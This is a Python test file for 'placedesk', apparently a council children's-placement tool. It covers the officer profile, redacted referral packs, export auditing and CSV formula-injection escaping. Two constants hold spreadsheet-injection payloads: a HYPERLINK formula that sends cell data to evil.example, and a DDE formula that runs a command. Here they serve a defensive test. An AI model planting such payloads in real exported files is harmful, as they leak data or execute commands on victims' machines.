"""``placedesk profile``, ``pack`` and ``audit``: who is recorded, what a provider is sent, what went where."""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import pytest
from pypdf import PdfReader

from placedesk.cli import main
from placedesk.config import Settings, load_settings, save_settings
from placedesk.db import Database
from placedesk.models import AuditEvent
from placedesk.models.enums import AuditAction
from tests.services.sync.helpers import install_identity
from tests.services.referrals.helpers import make_child, make_provider, make_referral
from tests.services.sync.helpers import fill

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
CASE_HOSTILE = "=cmd|' /C calc'!A0"


def _text(path: Path) -> str:
    return " ".join(" ".join((page.extract_text() or "").split()) for page in PdfReader(path).pages)


def _referral(db: Database) -> tuple[str, str]:
    with db.session_scope() as s:
        child = make_child(s, first_name="Noah", last_name="O'Brien-Mhaille", case_reference="DM166215",
                           date_of_birth=dt.date(2014, 2, 17))
        referral = make_referral(s, child=child, needs_summary="Noah's needs: calm home. Ref DM 166215, born "
                                 "17 February 2014.")
        provider = make_provider(s, "Oak House")
        return referral.ref, provider.ref


def test_profile_shows_and_sets_the_officer_and_says_what_packs_still_need(
        capsys: pytest.CaptureFixture[str]) -> None:
    save_settings(Settings())
    assert main(["profile"]) == 0
    out = capsys.readouterr().out
    assert "Officer name:     (not set)" in out and "council name, officer name, contact email or phone" in out
    assert main(["profile", "--name", "Ama Mensah", "--council", "Northshire", "--phone", "01632 960 123"]) == 0
    assert "Still needed" not in capsys.readouterr().out
    officer = load_settings().settings.officer
    assert (officer.name, officer.local_authority, officer.phone) == ("Ama Mensah", "Northshire", "01632 960 123")
    assert main(["profile", "--email", "not-an-email"]) == 2
    assert "email address does not look right" in capsys.readouterr().err


def test_changes_are_refused_until_the_officer_is_named(db: Database, capsys: pytest.CaptureFixture[str],
                                                        tmp_path: Path) -> None:
    from tests.services.agreements.helpers import make_placement

    with db.session_scope() as s:
        ref = make_placement(s).ref
        before = s.query(AuditEvent).count()
    save_settings(Settings())
    assert main(["--db", db.location, "ipa", ref, "--out", str(tmp_path / "ipa.pdf")]) == 2
    assert "placedesk profile" in capsys.readouterr().err
    with db.session() as s:
        assert s.query(AuditEvent).count() == before
    assert not (tmp_path / "ipa.pdf").exists()


def test_pack_writes_the_redacted_pack_as_it_would_be_sent_and_audits_it(
        db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    referral, provider = _referral(db)
    out = tmp_path / "pack.pdf"
    assert main(["--db", db.location, "pack", referral, "--provider", provider, "--out", str(out),
                 "--on", "2026-03-02"]) == 0
    assert "identifying detail(s)" in capsys.readouterr().out
    text = _text(out)
    assert "Noah" not in text and "166215" not in text and "2014" not in text
    assert "[name removed]" in text and "[case reference removed]" in text and "[date of birth removed]" in text
    assert "Northshire County Council" in text and "casey@northshire.example.gov.uk" in text
    assert main(["--db", db.location, "audit", "--record", referral, "--kind", "export"]) == 0
    printed = capsys.readouterr().out
    assert "Casey Officer" in printed and "Referral pack" in printed and str(out) in printed


def test_pack_is_refused_without_the_councils_identity(db: Database, capsys: pytest.CaptureFixture[str],
                                                       tmp_path: Path) -> None:
    referral, provider = _referral(db)
    settings = load_settings().settings
    settings.officer.local_authority = ""
    settings.officer.email = ""
    save_settings(settings)
    assert main(["--db", db.location, "pack", referral, "--provider", provider, "--out",
                 str(tmp_path / "p.pdf")]) == 2
    err = capsys.readouterr().err
    assert "council name and contact email or phone" in err and not (tmp_path / "p.pdf").exists()


def test_every_cli_export_is_audited_and_the_audit_csv_is_safe(db: Database, tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    db.officer = "Casey Officer"  # the officer the command line runs as, who signs the bundle
    with db.session_scope() as s:
        filled = fill(s, child_name=(HOSTILE, "Whitfield"), case_reference=CASE_HOSTILE)
        filled.provider.name = HOSTILE
        referral = make_referral(s).ref
        make_provider(s, HOSTILE)
    base = ["--db", db.location]
    assert main([*base, "match", referral, "--csv", str(tmp_path / "match.csv")]) == 0
    assert main([*base, "spreadsheets", "--to", str(tmp_path / "sheets"), "--csv", "--pseudonymise"]) == 0
    assert main([*base, "dashboard", "--csv", str(tmp_path / "dash.csv")]) == 0
    assert main([*base, "leaving-care", "--csv", str(tmp_path / "lc.csv")]) == 0
    install_identity("Casey Officer")  # bundles are signed by the officer who made the changes
    assert main([*base, "export", "--to", str(tmp_path / "bundles")]) == 0
    assert main([*base, "audit", "--csv", str(tmp_path / "audit.csv")]) == 0
    capsys.readouterr()
    with db.session() as s:
        exports = s.query(AuditEvent).filter(AuditEvent.action == AuditAction.EXPORT).all()
    described = sorted(re.sub(r" (on|for) \S+", "", e.changes["what"]) for e in exports)
    assert described == [
        "Audit log (CSV)", "Commissioning spreadsheets (XLSX and CSV)", "Dashboard figures (CSV)",
        "Export bundle shared folder", "Leaving-care list (CSV)", "Shortlist (CSV)"]
    assert all(e.officer == "Casey Officer" for e in exports)
    sheets = next(e for e in exports if e.changes["what"].startswith("Commissioning"))
    assert sheets.changes["pseudonymised"] is True and sheets.changes["records"] > 0
    with (tmp_path / "audit.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{HOSTILE}" in cells and HOSTILE not in cells
    written = {}
    for name in ("match.csv", "lc.csv", "dash.csv"):
        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as handle:
            written[name] = [cell for row in csv.reader(handle) for cell in row]
        assert not [c for c in written[name] if c.startswith(("=", "+", "@", "\t", "\r"))], name
    assert f"'{HOSTILE}" in written["match.csv"] and f"'{CASE_HOSTILE}" in written["lc.csv"]
